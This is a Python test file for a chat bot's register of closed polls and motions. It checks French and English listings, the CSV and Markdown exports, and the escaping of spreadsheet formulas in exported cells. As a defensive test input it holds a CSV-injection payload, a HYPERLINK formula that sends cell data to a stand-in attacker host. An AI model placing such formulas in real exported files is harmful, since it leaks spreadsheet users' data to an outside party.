"""The register of decisions (/decisions): the list, CSV and Markdown exports, cells safe from
formulas, the export command named in the room's language."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csvsafe import safe_cell, write_csv
from tests.harness import Harness
from tests.polls.helpers import (
    capture_sends,
)


async def test_register_lists_and_exports_decisions(bot: Harness) -> None:
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    await bot.say("/vote 1", member="bob")
    await bot.say("/cloturer", member="alice")
    await bot.say("/motion Comptes 2025", member="alice")
    await bot.say("/vote pour", member="alice")
    await bot.say("/cloturer", member="alice")

    listing = await bot.say("/decisions")
    sent = capture_sends(bot)
    exported = await bot.say("/decisions csv")
    markdown = await bot.say("/decisions markdown")

    assert listing[0].startswith("Registre des décisions (les plus récentes d'abord) :\n#2 · ")
    assert "motion « Comptes 2025 » → Adoptée. Pour : 1 · Contre : 0" in listing[0]
    assert "sondage « Pizza ? » → Résultat : Reine (1 voix)." in listing[0]
    assert exported[0].startswith(
        "Registre des décisions en CSV : 2 sondages et motions, dans le fichier joint "
        "decisions.csv.\n📎 decisions.csv → "
    )
    csv_file, md_file = (out.attachment for out in sent)
    assert csv_file is not None and md_file is not None
    assert ("decisions.csv", "text/csv") == (csv_file.filename, csv_file.mime)
    lines = csv_file.content.decode("utf-8-sig").splitlines()
    assert (
        "n°,type,question,ouverture,clôture,votants,pour,contre,abstentions,blancs,résultat"
        == lines[0]
    )
    assert lines[1].startswith("1,sondage,Pizza ?,")
    assert lines[2].startswith("2,motion,Comptes 2025,")
    assert ("decisions.md", "text/markdown") == (md_file.filename, md_file.mime)
    assert markdown[0].startswith("Registre des décisions en Markdown : 2 sondages et motions")
    table = md_file.content.decode()
    assert table.startswith(
        "| n° | type | question | ouverture | clôture | votants | pour | contre | abstentions "
        "| blancs | résultat |"
    )
    assert "| 2 | motion | Comptes 2025 |" in table


async def test_register_export_in_english_is_a_file(bot: Harness) -> None:
    await bot.say("/language en")
    await bot.say("/poll Pizza? | Margherita | Calzone")
    await bot.say("/close", member="alice")
    sent = capture_sends(bot)

    replies = await bot.say("/register csv")

    assert replies[0].startswith(
        "Register of decisions as CSV: 1 poll or motion, in the attached file decisions.csv."
    )
    attachment = sent[0].attachment
    assert attachment is not None
    assert attachment.content.decode("utf-8-sig").startswith(
        "id,kind,question,opened,closed,voters,for,against,abstentions,blank,outcome\n"
        "1,poll,Pizza?,"
    )


async def test_register_empty_and_bad_format(bot: Harness) -> None:
    assert ["Aucun sondage ni aucune motion n'a encore été clôturé."] == await bot.say(
        "/decisions"
    )
    bad = await bot.say("/decisions pdf")
    assert bad[0].startswith("Choisissez csv ou markdown.")


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("fr", "Export : /decisions csv ou /decisions markdown."),
        ("en", "Export: /decisions csv or /decisions markdown."),
    ],
)
async def test_register_names_the_export_command_of_the_room(
    bot: Harness, language: str, expected: str
) -> None:
    await bot.say(f"/langue {language}")
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    await bot.say("/cloturer")

    replies = await bot.say("/decisions")

    assert replies[0].endswith(expected)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "'=HYPERLINK("),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Budget 2027", "Budget 2027"),
        ("12", "12"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell_neutralises_formulas(value: object, expected: str) -> None:
    assert safe_cell(value).startswith(expected)
    assert expected == "" or safe_cell(value).endswith(str(value)[1:])


def test_write_csv_has_a_byte_order_mark_and_safe_cells() -> None:
    content = write_csv([["question", "voters"], ["=1+1", 3]])

    assert "\ufeffquestion,voters\n'=1+1,3\n".encode() == content


async def test_register_csv_neutralises_a_formula_in_a_poll_title(bot: Harness) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
    await bot.say(f"/sondage {title} | Oui | Non")
    await bot.say("/vote 1", member="bob")
    await bot.say("/cloturer", member="alice")
    sent = capture_sends(bot)

    await bot.say("/decisions csv", member="alice")

    attachment = sent[-1].attachment
    assert attachment is not None
    rows = list(csv.reader(io.StringIO(attachment.content.decode("utf-8-sig"))))
    assert "'" + title == rows[1][2]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
